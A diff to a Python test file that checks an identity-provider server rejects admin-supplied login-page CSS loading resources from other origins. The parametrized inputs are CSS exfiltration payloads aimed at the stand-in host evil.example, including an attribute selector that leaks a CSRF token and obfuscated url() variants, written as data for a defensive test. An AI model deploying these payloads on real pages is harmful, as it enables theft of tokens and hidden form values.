@@ -147,3 +147,32 @@ def test_an_svg_asset_is_served_so_it_cannot_run_script(idp: Any, server: Any) -
     assert policy == ["default-src 'none'", "style-src 'unsafe-inline'", "sandbox"]
     assert served.headers["content-disposition"] == "inline"
     assert served.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.mark.parametrize(
+    "css",
+    [
+        "@import url(https://evil.example/steal.css);",
+        '@IMPORT "https://evil.example/steal.css";',
+        'input[name=_csrf][value^="a"] { background: url(https://evil.example/a); }',
+        ".banner-customizable { background: url( //evil.example/a ); }",
+        ".banner-customizable { background-image: image-set('http:evil.example/a' 1x); }",
+        ".banner-customizable { background: u\\72l(https://evil.example/a); }",
+    ],
+)
+def test_ui_css_may_not_load_from_other_origins(idp: Any, server: Any, css: str) -> None:
+    """Security review #14: admin CSS can read hidden fields, so it may not send them away."""
+    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
+    with pytest.raises(idp.exceptions.InvalidParameterException):
+        idp.set_ui_customization(UserPoolId=pool_id, CSS=css)
+
+
+def test_ui_css_may_use_this_servers_and_data_urls(idp: Any, server: Any) -> None:
+    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
+    css = (
+        ".banner-customizable { background: url(data:image/png;base64,AAAA) }\n"
+        '.background-customizable { background-image: url("/static/bg.png"); '
+        'font-family: "Helvetica Neue", sans-serif; }'
+    )
+    shown = idp.set_ui_customization(UserPoolId=pool_id, CSS=css)["UICustomization"]
+    assert shown["CSS"] == css
